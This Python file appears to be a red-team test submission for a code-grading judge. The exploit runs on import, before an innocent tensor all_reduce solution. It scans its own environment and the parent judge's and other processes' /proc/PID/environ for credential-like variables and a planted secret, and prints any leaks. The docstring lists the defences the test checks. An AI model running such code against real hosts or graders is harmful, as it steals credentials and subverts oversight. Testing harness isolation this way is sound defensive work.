"""Exploit (escape: reading secrets): look for credentials in its own environment, in the judge's (its parent's)
environment through /proc, and in every /proc/PID/environ it can read; print whatever it finds (a real one would
send it out). Defences: an allow-list environment; another uid (so /proc/PID/environ of the judge is unreadable).
The test plants SECRET_NAME in the judge's environment and checks the logs."""
import os
import sys

import torch.distributed as dist

SECRET_NAME = "PKB_REDTEAM_SECRET"
CREDENTIAL_HINTS = ("SECRET", "TOKEN", "PASSWORD", "KEY", "DATABASE_URL", "BROKER", "AWS", "CREDENTIAL")

visible = sorted(k for k in os.environ if any(h in k.upper() for h in CREDENTIAL_HINTS))
print(f"reads_secrets: credential-like variables visible: {visible}", file=sys.stderr)
if SECRET_NAME in os.environ:
    print(f"reads_secrets: LEAK from own environment: {os.environ[SECRET_NAME]}", file=sys.stderr)
readable = 0
for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            data = f.read()
    except OSError:
        continue
    readable += 1
    for item in data.split(b"\0"):
        if item.startswith(SECRET_NAME.encode() + b"="):
            print(f"reads_secrets: LEAK from /proc/{pid}/environ: {item.decode(errors='replace')}", file=sys.stderr)
print(f"reads_secrets: {readable} /proc/*/environ files readable", file=sys.stderr)


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
